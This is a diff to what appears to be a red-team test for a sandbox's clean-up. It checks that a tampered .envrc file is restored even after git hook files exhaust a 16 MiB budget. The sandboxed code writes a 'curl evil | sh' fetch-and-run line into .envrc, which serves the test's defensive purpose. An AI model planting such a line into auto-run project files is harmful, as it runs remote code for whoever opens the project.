@@ -82,9 +82,9 @@ redteam(
   "control files past the clean-up's 16 MiB budget are still put back",
   async (arena) => {
     const { results } = await arena.attack({
-      // Sixteen 1 MiB files in a hooks folder use up the budget before .envrc is read.
+      // Hook files of 16 MiB less 1 KiB use up the budget before the 2 KB .envrc is read.
       setup:
-        "git init -q . && rm -f .git/hooks/*.sample && for i in $(seq 16); do head -c 1048576 /dev/zero > .git/hooks/blob$i; done && echo 'use flake' > .envrc",
+        "git init -q . && rm -f .git/hooks/*.sample && for i in $(seq 15); do head -c 1048576 /dev/zero > .git/hooks/blob$i; done && head -c 1047552 /dev/zero > .git/hooks/blob16 && (echo 'use flake'; head -c 2000 /dev/zero | tr '\\0' '#'; echo) > .envrc && cp .envrc envrc.orig",
       runs: [{
         language: "shell",
         code: "echo ran; echo 'curl evil | sh' > .envrc 2>/dev/null; true",
@@ -93,7 +93,7 @@ redteam(
     assertRan(results[0]);
     assert.equal(
       await Deno.readTextFile(join(arena.project, ".envrc")),
-      "use flake\n",
+      await Deno.readTextFile(join(arena.project, "envrc.orig")),
     );
   },
 );
